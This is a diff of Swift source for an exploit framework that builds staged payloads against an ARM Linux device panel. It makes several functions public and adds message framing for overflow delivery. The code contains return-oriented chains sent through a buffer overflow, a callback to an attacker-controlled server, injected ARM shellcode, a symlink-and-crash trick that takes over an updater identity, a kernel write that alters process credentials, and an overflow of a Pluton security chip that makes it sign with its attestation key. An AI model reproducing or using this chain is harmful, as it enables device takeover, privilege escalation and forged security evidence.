@@ -1,7 +1,7 @@
 import Formats
 
 /// What is sent through the hole in the panel: system calls, layer by layer, each with a call of its own, none knowing of the others.
-struct PanelPayload {
+public struct PanelPayload {
     /// Numbers of Linux on ARM (arch/arm/tools/syscall.tbl).
     private enum Call {
         static let close: UInt32 = 6, write: UInt32 = 4, getpid: UInt32 = 20, ioctl: UInt32 = 54, symlink: UInt32 = 83
@@ -20,17 +20,29 @@ struct PanelPayload {
     private static let here = UInt32(bitPattern: -100)
     private static let readWrite: UInt32 = 2
     /// Before results.
-    static let mark = Array("PWND".utf8)
+    public static let mark = Array("PWND".utf8)
     /// What Pluton is to sign; its meaning does not matter.
-    static let digest = [UInt8](repeating: 0xA5, count: 32)
+    public static let digest = [UInt8](repeating: 0xA5, count: 32)
     private static let signatureBytes: UInt32 = 64
     private static let updater: UInt32 = 100
 
     private var chain: ReturnChain
-    private(set) var layers: [Layer] = []
+    public private(set) var layers: [Layer] = []
     private(set) var parts = ReturnChain.Parts(kept: [], overflowing: [], registers: [])
     /// How much comes back behind the mark.
-    private(set) var answerBytes = 0
+    public private(set) var answerBytes = 0
+
+    /// What goes through the connection: a frame that is only kept, one that overflows, and the registers to go on with.
+    public var message: [UInt8] {
+        PanelPayload.frame("?", parts.kept) + PanelPayload.frame("N", parts.overflowing) + parts.registers
+    }
+
+    /// One that overflows with machine code.
+    public static func message(injecting code: [UInt8]) -> [UInt8] { frame("N", code) }
+
+    private static func frame(_ letter: Unicode.Scalar, _ content: [UInt8]) -> [UInt8] {
+        [UInt8(ascii: letter)] + UInt16(content.count).littleEndianBytes + content
+    }
 
     private init(_ gadgets: ReturnChain.Gadgets) { chain = ReturnChain(gadgets) }
 
@@ -56,7 +68,7 @@ struct PanelPayload {
     // MARK: From the network into the app
 
     /// - Parameter server: A machine of the attacker's that no manifest lists.
-    static func inApp(_ gadgets: ReturnChain.Gadgets, server: (address: UInt32, port: UInt16)) -> PanelPayload {
+    public static func inApp(_ gadgets: ReturnChain.Gadgets, server: (address: UInt32, port: UInt16)) -> PanelPayload {
         var payload = PanelPayload(gadgets)
         payload.add("reused code", payload.chain.call(Call.getpid, []), .more)
         payload.rewriteCode()
@@ -112,7 +124,7 @@ struct PanelPayload {
     }
 
     /// Machine code to be run where frames are kept: it says so, and ends the app.
-    static func injected(_ gadgets: ReturnChain.Gadgets) -> [UInt8] {
+    public static func injected(_ gadgets: ReturnChain.Gadgets) -> [UInt8] {
         // mov r0, #peer; add r1, pc, #16; mov r2, #8; mov r7, #write; svc #0; mov r7, #exit; svc #0, then what it writes
         let code: [UInt32] = [
             0xE3A0_0000 | peer, 0xE28F_1010, 0xE3A0_2008, 0xE3A0_7004, 0xEF00_0000, 0xE3A0_7001, 0xEF00_0000,
@@ -125,7 +137,7 @@ struct PanelPayload {
     // MARK: On from there
 
     /// Lays a link where crash dumps go and crashes, with a line on the stack that makes this app the updater.
-    static func crashIntoUserMap(_ gadgets: ReturnChain.Gadgets, component: String) -> PanelPayload {
+    public static func crashIntoUserMap(_ gadgets: ReturnChain.Gadgets, component: String) -> PanelPayload {
         var payload = PanelPayload(gadgets)
         let (target, link) = (payload.chain.place("/run/uid_map"), payload.chain.place("/tmp/core"))
         payload.chain.call(Call.symlink, [target, link])
@@ -134,7 +146,7 @@ struct PanelPayload {
     }
 
     /// Who it is after that.
-    static func asDaemon(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
+    public static func asDaemon(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
         var payload = PanelPayload(gadgets)
         payload.add("a system service's user", payload.chain.call(Call.getuid, []), .value(updater))
         payload.finish()
@@ -142,7 +154,7 @@ struct PanelPayload {
     }
 
     /// Writes to a socket's peer that is gone, where the kernel now keeps who a process is.
-    static func intoKernel(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
+    public static func intoKernel(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
         var payload = PanelPayload(gadgets)
         let (nowhere, words) = (
             payload.chain.place([UInt8](repeating: 0, count: 18)), payload.chain.place([UInt32(0), 0x3FF].littleEndianBytes)
@@ -156,7 +168,7 @@ struct PanelPayload {
         return payload
     }
 
-    static func throughMonitor(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
+    public static func throughMonitor(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
         var payload = PanelPayload(gadgets)
         payload.commitImage()
         payload.finish()
@@ -164,7 +176,7 @@ struct PanelPayload {
     }
 
     /// A request that is too long for Pluton's buffer, and names the key that signs evidence. The signature comes back.
-    static func intoPluton(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
+    public static func intoPluton(_ gadgets: ReturnChain.Gadgets) -> PanelPayload {
         var payload = PanelPayload(gadgets)
         let request = payload.chain.place([UInt8](repeating: 0, count: 64) + digest + UInt32(1).littleEndianBytes)
         let signature = payload.chain.place([UInt8](repeating: 0, count: Int(signatureBytes)))
